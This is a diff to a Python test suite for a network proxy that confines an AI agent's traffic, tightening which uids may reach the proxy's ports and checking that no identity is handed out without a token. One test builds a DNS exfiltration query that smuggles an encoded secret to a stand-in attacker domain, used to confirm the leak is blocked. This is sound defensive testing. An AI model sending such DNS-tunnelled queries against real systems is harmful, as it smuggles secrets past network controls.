@@ -309,8 +309,12 @@ except OSError as e:
 print("answer", got.hex())
 """)
     query = _dns_query("c2VjcmV0.exfil.attacker.test").hex()
-    done = fresh.as_agent([sys.executable, str(script), token, str(fresh.proctor_ca), query, str(ERP_DNS_PORT),
-                           str(FORWARD_PORT)], uid=0)
+    fresh.netsetup("--protect-port", "none")  # (by default the rules refuse every uid but Proctor's that port)
+    try:
+        done = fresh.as_agent([sys.executable, str(script), token, str(fresh.proctor_ca), query, str(ERP_DNS_PORT),
+                               str(FORWARD_PORT)], uid=0)
+    finally:
+        fresh.netsetup()
     assert "connect HTTP/1.1 200" in done.stdout, done  # the tunnel itself is allowed (a connector port)
     assert done.stdout.split("answer ")[1].strip() == "", done.stdout
     deadline = time.monotonic() + 5
@@ -427,7 +431,13 @@ def test_authorization_carrying_an_agent_token_is_stripped(fresh: Netns, idp):
 
 
 def test_the_forward_listener_never_falls_back_to_the_workload_identity(fresh: Netns):
-    reply = fresh.curl(f"{ERP}/items/1", "-x", f"http://127.0.0.1:{FORWARD_PORT}")
+    # the agent cannot reach it at all (netsetup refuses Proctor's own ports to every other uid) ...
+    refused = fresh.curl(f"{ERP}/items/1", "-x", f"http://127.0.0.1:{FORWARD_PORT}")
+    assert refused.status is None and "couldn't connect" in (refused.error or "").lower(), refused
+    for port in (FORWARD_PORT, CONTROL_PORT):
+        assert fresh.curl(f"http://127.0.0.1:{port}/healthz").status is None
+    # ... and whoever can (here Proctor's own uid) gets no identity without a token of its own
+    reply = fresh.curl(f"{ERP}/items/1", "-x", f"http://127.0.0.1:{FORWARD_PORT}", uid=PROXY_UID)
     assert reply.status == 407, reply
     assert fresh.received("erp-http") == []
 
@@ -443,7 +453,7 @@ def test_healthz_reports_the_listeners_and_the_workload_identity(env: Netns):
     assert wl["token_file"] == str(env.token_file) and wl["expires_at"] > time.time()
     token = env.token_file.read_text().strip()
     assert token not in json.dumps(health)
-    metrics = env.as_agent(["curl", "-s", f"http://127.0.0.1:{CONTROL_PORT}/metrics"], uid=0).stdout
+    metrics = env.as_agent(["curl", "-s", f"http://127.0.0.1:{CONTROL_PORT}/metrics"], uid=PROXY_UID).stdout
     assert "proctor_workload_identity_valid 1.0" in metrics
 
 
